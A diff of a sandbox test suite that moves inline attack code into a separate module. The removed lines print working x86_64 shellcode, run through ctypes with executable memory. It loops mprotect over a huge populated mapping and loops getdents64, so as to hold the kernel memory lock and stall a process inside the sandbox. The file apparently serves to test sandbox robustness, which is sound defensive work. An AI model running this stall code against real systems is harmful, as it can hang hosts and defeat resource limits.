@@ -10,32 +10,10 @@ import pytest
 import level_table
 from adk_skills_agent.sandbox.contract import ExecutionRequest, ExecutionResult, InputFile, SandboxPolicy, Status
 from adk_skills_agent.sandbox.local import local_sandbox
+from stall_programs import HOLDS
 
 pytestmark = pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack is written for x86_64")
 
-# Gigabytes of one page of zeros: what changes their protection holds the lock of the process's memory for long, and
-# every page fault of the process waits for it, also one in the middle of a system call that holds another lock.
-HOLDS = """
-import ctypes, mmap, os, sys, threading, time
-libc = ctypes.CDLL(None)
-libc.mmap.restype = ctypes.c_void_p
-libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
-libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
-size = 12 << 30
-def program(code, *arguments):
-    place = libc.mmap(None, 4096, 7, 0x22, -1, 0)
-    ctypes.memmove(place, bytes.fromhex(code), len(code) // 2)
-    call = ctypes.CFUNCTYPE(None, *[ctypes.c_void_p] * 3)(place)
-    threading.Thread(target=call, args=arguments, daemon=True).start()
-def hold():
-    area = libc.mmap(None, size, 1, 0x4022, -1, 0)  # PROT_READ; MAP_PRIVATE, MAP_ANONYMOUS, MAP_NORESERVE
-    libc.madvise(area, size, 15)  # MADV_NOHUGEPAGE
-    if libc.madvise(area, size, 22):  # MADV_POPULATE_READ
-        sys.exit("this kernel cannot fill in pages ahead")
-    libc.madvise(area, 1 << 30, 4)  # MADV_DONTNEED: each page of the first gigabyte is a fault
-    program("83f201b80a0000000f05ebf4", area, size, 1)  # for ever: mprotect(area, size, protection ^= 1)
-    return area
-"""
 # For ever: 20,000 times write(1, there, 1), so that the loop reads all the time, then write(1, area, 1); area += 4096.
 WRITES_FROM_PAGES_THAT_ARE_NOT_THERE = (
     HOLDS
@@ -71,9 +49,7 @@ ready, go = os.pipe()
 if os.fork() == 0:
     folder, there = os.open("d", os.O_RDONLY), libc.mmap(None, 4000 * 8192, 3, 0x4022, -1, 0)
     hold()
-    # For ever: lseek(folder, 0, 0); getdents64(folder, there, 4096); there += 8192
-    again = "4c89e731f631d2b8080000000f05" + "4c89e74c89eeba00100000b8d90000000f05"
-    program("4989fc4989f5" + again + "4981c500200000" + "ebd7", folder, there, 0)
+    program(LISTS, folder, there, 0)
     os.write(go, b"1")
     time.sleep(40)
 os.read(ready, 1)
@@ -97,8 +73,7 @@ ready, go = os.pipe()
 if os.fork() == 0:
     folder, there = os.open(shared, os.O_RDONLY), libc.mmap(None, 4000 * 8192, 3, 0x4022, -1, 0)
     hold()
-    again = "4c89e731f631d2b8080000000f05" + "4c89e74c89eeba00100000b8d90000000f05"
-    program("4989fc4989f5" + again + "4981c500200000" + "ebd7", folder, there, 0)
+    program(LISTS, folder, there, 0)
     os.write(go, b"1")
     time.sleep(20)
     os._exit(0)
